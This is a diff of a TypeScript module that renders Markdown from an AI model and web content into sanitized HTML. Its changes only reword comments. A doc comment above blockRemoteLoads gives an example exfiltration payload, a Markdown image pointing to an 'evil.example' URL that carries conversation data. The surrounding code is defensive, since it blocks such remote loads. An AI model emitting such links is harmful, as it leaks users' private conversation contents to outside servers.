@@ -1,6 +1,6 @@
 // Markdown to sanitized HTML. Everything the model, web pages or artifacts produce goes
-// through renderMarkdown before it reaches the DOM (DESIGN.md, "Frontend": untrusted text is
-// rendered sanitized).
+// through renderMarkdown before it reaches the DOM (untrusted text is rendered sanitized;
+// docs/ARCHITECTURE.md, "Security").
 
 import DOMPurify from 'dompurify';
 import { Marked, type MarkedExtension, type Tokens } from 'marked';
@@ -12,7 +12,7 @@ import { i18n } from './i18n';
 /** State of one checklist item in a task plan. */
 export type TaskMark = 'done' | 'todo' | 'progress';
 
-// Task-plan markers besides GitHub's "[ ]"/"[x]". In seed 000 the lead ticks items off by
+// Task-plan markers besides GitHub's "[ ]"/"[x]". The lead ticks items off by
 // turning "[✗]" into "[✓]", so ✗ means "not done yet", not "failed".
 const MARKERS: Partial<Record<string, TaskMark>> = {
   '✓': 'done',
@@ -147,15 +147,15 @@ const REMOTE = /^\s*(https?:|\/\/)/i;
  * otherwise send what the conversation holds to any server with no click (an answer
  * ending in `![x](https://evil.example/?d=…)`). The URL is kept in data-blocked-src and,
  * for images, shown in the title; nothing is fetched. Rendered with `images` (the user's
- * "Load images" click, or Settings' "always"; issue 10, item 7), an `<img>` keeps an
- * http(s) src (never a protocol-relative one), still with referrerpolicy="no-referrer";
- * media, posters, backgrounds and SVG images stay blocked.
+ * "Load images" click, or Settings' "always"), an `<img>` keeps an http(s) src (never a
+ * protocol-relative one), still with referrerpolicy="no-referrer"; media, posters,
+ * backgrounds and SVG images stay blocked.
  */
 function blockRemoteLoads(node: Element): void {
   for (const attr of LOAD_ATTRS) {
     const v = node.getAttribute(attr);
     if (v === null || !REMOTE.test(v)) continue;
-    if (keepImages && node.nodeName === 'IMG' && attr === 'src' && /^\s*https?:\/\//i.test(v)) continue; // issue 10, item 7
+    if (keepImages && node.nodeName === 'IMG' && attr === 'src' && /^\s*https?:\/\//i.test(v)) continue;
     node.removeAttribute(attr);
     node.setAttribute('data-blocked-src', v);
     if (node.nodeName === 'IMG') {
